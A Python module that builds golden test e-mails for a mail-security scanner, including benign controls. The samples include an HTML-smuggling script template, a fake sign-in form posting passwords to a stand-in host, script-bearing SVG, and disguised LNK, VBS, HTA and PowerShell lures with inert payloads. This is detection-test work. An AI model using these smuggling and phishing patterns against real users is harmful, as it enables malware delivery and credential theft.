"""Golden samples of the html and lure modules.

samples() returns [(name, eml_bytes)]; gen.py writes them next to its own
and expected/NAME.expect holds each verdict and rule ids.  Python 3
standard library only, deterministic.  Every "program" is a harmless PE
header stub without code; every script only echoes or does nothing.

HTML and SVG:
  html-smuggling          invoice.html: script that turns a base64 PE stub
                          into a Blob and a download link (quarantine)
  html-smuggling-datauri  an <a download> on a data: URI of type
                          application/x-iso9660-image (quarantine)
  html-credential-phish   Document.html: a fake sign-in page posting the
                          e-mail and password to another host (quarantine)
  svg-script              image/svg+xml attachment with onload and
                          <script> (quarantine)
  html-meta-refresh       an HTML attachment that only redirects (tag)
  html-outlook-body       Outlook (Word HTML) body with a cid: inline
                          image in multipart/related (accept)
  html-newsletter-tracking  newsletter body with 30 tracked links, tracking
                          pixels, a search form and a styled layout (accept)
  svg-logo                a plain SVG logo attachment (accept)
Lure formats (quarantine unless said otherwise):
  lure-lnk-as-pdf         a shell link named 請求書.pdf, declared
                          application/pdf
  lure-onenote            OneNote stub (GUID header + zeros), 請求書.one
  lure-url-as-txt         [InternetShortcut] named document.txt, text/plain
  lure-js-textplain       invoice.js declared text/plain
  lure-vbs-octet          update.vbs declared application/octet-stream
  lure-hta-textplain      update.hta declared text/plain
  lure-wsf-octet          job.wsf declared application/octet-stream
  lure-bat-textplain      run.bat declared text/plain
  lure-ps1-octet          setup.ps1 declared application/octet-stream
  lure-vbs-as-txt         VBScript named 請求書.txt, text/plain (content
                          only: no blocked name)
  lure-ps1-utf16-as-txt   UTF-16LE PowerShell named memo.txt
  lure-lab-csv-ok         a CSV of lab results with words like "set" and
                          "start" (accept)
"""

import base64
import struct

FROM = ("=?ISO-2022-JP?B?GyRCOzNFREZiMkobKEI=?="    # 山田内科
        " <info@yamada-clinic.example>")
TO = "renkei@hospital.example"
DATE = "Mon, 01 Apr 2024 09:00:00 +0900"


def b64(data):
    s = base64.b64encode(data).decode("ascii")
    return "".join(s[i:i + 76] + "\n" for i in range(0, len(s), 76))


def ew(text, charset="ISO-2022-JP"):
    raw = text.encode(charset.lower().replace("-", "_"))
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode("ascii"))


def headers(subject, mid, frm=FROM, extra=()):
    h = ["From: " + frm, "To: " + TO, "Subject: " + subject,
         "Date: " + DATE,
         "Message-ID: <%s.20240401090000@golden.example>" % mid,
         "MIME-Version: 1.0"]
    h.extend(extra)
    return "\n".join(h) + "\n"


def text_part(body):
    enc = body.encode("iso2022_jp").decode("ascii")
    return ("Content-Type: text/plain; charset=ISO-2022-JP\n"
            "Content-Transfer-Encoding: 7bit\n\n" + enc)


def attach(ctype, name, data):
    return ("Content-Type: %s;\n\tname=\"%s\"\nContent-Transfer-Encoding: "
            "base64\nContent-Disposition: attachment;\n\tfilename=\"%s\"\n\n"
            "%s" % (ctype, name, name, b64(data)))


def mail(mid, parts, subject=None, boundary="----=_Part_7"):
    h = headers(subject or ew("書類の送付"), mid, extra=(
        'Content-Type: multipart/mixed; boundary="%s"' % boundary,))
    body = "".join("--%s\n%s%s" % (boundary, p, "" if p.endswith("\n")
                                   else "\n") for p in parts)
    return (h + "\n" + body + "--%s--\n" % boundary).encode("utf-8")


def with_text(mid, ctype, name, data):
    return mail(mid, [text_part("資料を添付いたします。ご確認ください。\n"),
                      attach(ctype, name, data)])


# ---- harmless stubs ---------------------------------------------------

def pe_stub():
    """MZ header, e_lfanew -> "PE\\0\\0", COFF and an empty optional header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3c, 0x80)
    coff = struct.pack("<HHIIIHH", 0x14c, 0, 0, 0, 0, 0xe0, 0x0102)
    opt = bytearray(0xe0)
    struct.pack_into("<H", opt, 0, 0x10b)
    struct.pack_into("<H", opt, 68, 2)
    return bytes(dos) + b"PE\0\0" + coff + bytes(opt)


def lnk_stub():
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I16sII24sIIIHH10s", 0x4c, clsid, 0, 0x20,
                       bytes(24), 0, 0, 1, 0, 0, bytes(10))


def onenote_stub():
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    return guid + bytes(1024 - len(guid))


# ---- HTML and SVG -----------------------------------------------------

SMUGGLE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice</title></head>
<body><p>Your invoice is downloading...</p>
<script>
/* golden test dummy: the payload is an inert PE header without code */
var p = "%s";
var raw = window.atob(p);
var bytes = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a");
a.href = window.URL.createObjectURL(blob);
a.download = "invoice.iso";
document.body.appendChild(a);
</script></body></html>
"""

PHISH = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sign in to your account</title>
<style>body{font-family:Segoe UI}.box{width:340px;margin:80px auto}</style>
</head><body><div class="box">
<h2>Sign in</h2><p>Your session has expired. Sign in to view the document.</p>
<form method="post" action="https://secure-docs-login.example.net/owa/auth.php">
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype">
<input type="password" name="passwd" placeholder="Password">
<input type="submit" value="Sign in">
</form></div></body></html>
"""

SVG_SCRIPT = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"
     onload="init()">
<script type="text/javascript"><![CDATA[
/* golden test dummy */
function init() { document.title = "x"; }
]]></script>
<rect width="200" height="80" fill="#eee"/><text x="10" y="40">Voice message</text>
</svg>
"""

SVG_LOGO = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">
<title>Yamada Clinic</title><style>.t{font:bold 14px sans-serif;fill:#036}</style>
<rect width="120" height="40" rx="6" fill="#e8f0f8"/>
<text class="t" x="10" y="25">Yamada Clinic</text>
</svg>
"""


def smuggle_sample(name):
    return with_text("smuggle", "text/html", "invoice.html",
                     (SMUGGLE % base64.b64encode(pe_stub()).decode())
                     .encode())


def smuggle_datauri():
    doc = ("<html><body><p>Scan ready.</p><a download=\"scan.img\" "
           "href=\"data:application/x-iso9660-image;base64,%s\">Open the "
           "scan</a></body></html>\n"
           % base64.b64encode(bytes(64)).decode())
    return with_text("smuggle-data", "text/html", "scan.html", doc.encode())


def meta_refresh():
    doc = ("<html><head><meta http-equiv=\"refresh\" content=\"0; "
           "url=https://www.hospital.example/portal/\"></head><body>"
           "Redirecting...</body></html>\n")
    return with_text("refresh", "text/html", "portal.html", doc.encode())


OUTLOOK = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}
o\\:* {behavior:url(#default#VML);}
</style><![endif]--><style><!--
@font-face
	{font-family:"Yu Gothic";
	panose-1:2 11 4 0 0 0 0 0 0 0;}
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0mm;
	text-align:justify;
	font-size:10.5pt;
	font-family:"Yu Gothic",sans-serif;}
a:link, span.MsoHyperlink
	{mso-style-priority:99;
	color:#0563C1;
	text-decoration:underline;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="JA" link="#0563C1" vlink="#954F72" style="word-wrap:break-word;text-justify-trim:punctuation">
<div class="WordSection1">
<p class="MsoNormal">連携室 御中<o:p></o:p></p>
<p class="MsoNormal">紹介状の件、承知いたしました。<o:p></o:p></p>
<p class="MsoNormal"><img width="120" height="40" style="width:1.25in;height:.4166in" id="Picture_x0020_1" src="cid:image001.png@01DA8F2B.1C2D3E40" alt="logo"><o:p></o:p></p>
<p class="MsoNormal">--<br>
山田内科 &lt;<a href="mailto:info@yamada-clinic.example">info@yamada-clinic.example</a>&gt;<br>
<a href="https://www.yamada-clinic.example/">ホームページ</a><o:p></o:p></p>
</div>
</body>
</html>
"""


def png_1x1():
    import zlib

    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(b"\0\0\0\0\0")) +
            chunk(b"IEND", b""))


def outlook_body():
    text = "連携室 御中\n\n紹介状の件、承知いたしました。\n"
    alt = ("--alt\nContent-Type: text/plain; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(text.encode()) +
           "--alt\nContent-Type: text/html; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(OUTLOOK.encode()) +
           "--alt--\n")
    rel = ("--rel\nContent-Type: multipart/alternative; boundary=\"alt\"\n\n"
           + alt +
           "--rel\nContent-Type: image/png; name=\"image001.png\"\n"
           "Content-Description: image001.png\n"
           "Content-Disposition: inline; filename=\"image001.png\"\n"
           "Content-ID: <image001.png@01DA8F2B.1C2D3E40>\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(png_1x1()) +
           "--rel--\n")
    h = headers(ew("Re: 紹介状の件"), "outlook", extra=(
        'Content-Type: multipart/related; boundary="rel"; '
        'type="multipart/alternative"',))
    return (h + "\n" + rel).encode("utf-8")


def newsletter():
    rows = "".join(
        '<tr><td class="c" style="padding:8px"><a href="https://click.news.'
        'hospital.example/ls/click?upn=dXNlcj0xMjM0NSZpZD0%d&amp;c=%d" '
        'target="_blank" style="color:#036">第%d回 健康講座のお知らせ '
        '&raquo;</a></td></tr>\n' % (i, i, i) for i in range(30))
    doc = ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
           "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
           "<html><head><meta charset=\"utf-8\"><meta name=\"viewport\" "
           "content=\"width=device-width\"><title>病院だより</title>"
           "<style>td{padding:0}@media (max-width:600px){.c{width:100%"
           "!important}}</style></head>\n<body style=\"margin:0\">"
           "<img src=\"https://click.news.hospital.example/wf/open?upn=abc\" "
           "width=\"1\" height=\"1\" alt=\"\" style=\"display:none\">"
           "<table role=\"presentation\" width=\"100%\">\n" + rows +
           "<tr><td><form action=\"https://www.hospital.example/search\" "
           "method=\"get\"><input type=\"text\" name=\"q\" placeholder=\""
           "サイト内検索\"><input type=\"submit\" value=\"検索\"></form>"
           "</td></tr><tr><td><a href=\"https://news.hospital.example/"
           "unsubscribe?u=abc\">配信停止</a></td></tr></table></body>"
           "</html>\n")
    text = "病院だより\n健康講座のお知らせです。\n"
    alt = ("--alt\nContent-Type: text/plain; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(text.encode()) +
           "--alt\nContent-Type: text/html; charset=utf-8\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(doc.encode()) +
           "--alt--\n")
    h = headers(ew("病院だより 5月号", "UTF-8"), "news2",
                frm="news@news.hospital.example", extra=(
                    'Content-Type: multipart/alternative; boundary="alt"',))
    return (h + "\n" + alt).encode("utf-8")


# ---- lure formats -----------------------------------------------------

JS = (b"// golden test dummy: only shows a message\r\n"
      b"var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
      b"sh.Popup(\"golden test\");\r\n")
VBS = (b"' golden test dummy: only shows a message\r\n"
       b"Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
       b"sh.Popup \"golden test\"\r\n")
HTA = (b"<html><head><title>update</title>\r\n"
       b"<HTA:APPLICATION ID=\"golden\" APPLICATIONNAME=\"update\">\r\n"
       b"<script language=\"VBScript\">\r\n"
       b"' golden test dummy: does nothing\r\nSub Window_OnLoad\r\n"
       b"End Sub\r\n</script></head><body></body></html>\r\n")
WSF = (b"<?xml version=\"1.0\"?>\r\n<job id=\"golden\">\r\n"
       b"<script language=\"JScript\">\r\nWScript.Echo(\"golden test\");\r\n"
       b"</script>\r\n</job>\r\n")
BAT = (b"@echo off\r\nrem golden test dummy\r\nset MSG=golden test\r\n"
       b"echo %MSG%\r\n")
PS1 = (b"# golden test dummy: downloads nothing (example.invalid)\r\n"
       b"$wc = New-Object System.Net.WebClient\r\n"
       b"$s = $wc.DownloadString('https://example.invalid/readme.txt')\r\n"
       b"Write-Host $s\r\n")
URL = (b"[InternetShortcut]\r\nURL=https://www.hospital.example/portal/\r\n"
       b"IconIndex=0\r\n")
CSV = ("患者ID,検査,値,単位,判定,日付\r\n"
       "000123,WBC,6.2,10^3/uL,,2024-04-01\r\n"
       "000123,CRP,0.3,mg/dL,,2024-04-01\r\n"
       "000124,HbA1c,7.1,%,H,2024-04-01\r\n"
       "備考: set start exit call dim function — 再検査は不要\r\n")


def samples():
    out = [
        ("html-smuggling", smuggle_sample("html-smuggling")),
        ("html-smuggling-datauri", smuggle_datauri()),
        ("html-credential-phish",
         with_text("phish", "text/html", "Document.html", PHISH.encode())),
        ("svg-script", with_text("svg", "image/svg+xml", "voice.svg",
                                 SVG_SCRIPT.encode())),
        ("html-meta-refresh", meta_refresh()),
        ("html-outlook-body", outlook_body()),
        ("html-newsletter-tracking", newsletter()),
        ("svg-logo", with_text("logo", "image/svg+xml", "logo.svg",
                               SVG_LOGO.encode())),
        ("lure-lnk-as-pdf", mail("lnkpdf", [
            text_part("請求書を添付いたします。\n"),
            "Content-Type: application/pdf;\n\tname=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n"
            "Content-Disposition: attachment;\n\tfilename=\"%s\"\n\n%s"
            % (ew("請求書.pdf"), ew("請求書.pdf"), b64(lnk_stub()))])),
        ("lure-onenote", mail("one", [
            text_part("請求書を添付いたします。\n"),
            "Content-Type: application/octet-stream;\n\tname=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n"
            "Content-Disposition: attachment;\n\tfilename=\"%s\"\n\n%s"
            % (ew("請求書.one"), ew("請求書.one"), b64(onenote_stub()))])),
        ("lure-url-as-txt", with_text("urltxt", "text/plain", "document.txt",
                                      URL)),
        ("lure-js-textplain", with_text("js", "text/plain", "invoice.js",
                                        JS)),
        ("lure-vbs-octet", with_text("vbs", "application/octet-stream",
                                     "update.vbs", VBS)),
        ("lure-hta-textplain", with_text("hta", "text/plain", "update.hta",
                                         HTA)),
        ("lure-wsf-octet", with_text("wsf", "application/octet-stream",
                                     "job.wsf", WSF)),
        ("lure-bat-textplain", with_text("bat", "text/plain", "run.bat",
                                         BAT)),
        ("lure-ps1-octet", with_text("ps1", "application/octet-stream",
                                     "setup.ps1", PS1)),
        ("lure-vbs-as-txt", mail("vbstxt", [
            text_part("請求書を添付いたします。\n"),
            "Content-Type: text/plain; charset=us-ascii;\n\tname=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n"
            "Content-Disposition: attachment;\n\tfilename=\"%s\"\n\n%s"
            % (ew("請求書.txt"), ew("請求書.txt"), b64(VBS))])),
        ("lure-ps1-utf16-as-txt", with_text(
            "ps1u16", "application/octet-stream", "memo.txt",
            b"\xff\xfe" + PS1.decode().encode("utf-16-le"))),
        ("lure-lab-csv-ok", with_text("csv", "text/csv", "lab.csv",
                                      CSV.encode("utf-8"))),
    ]
    return out
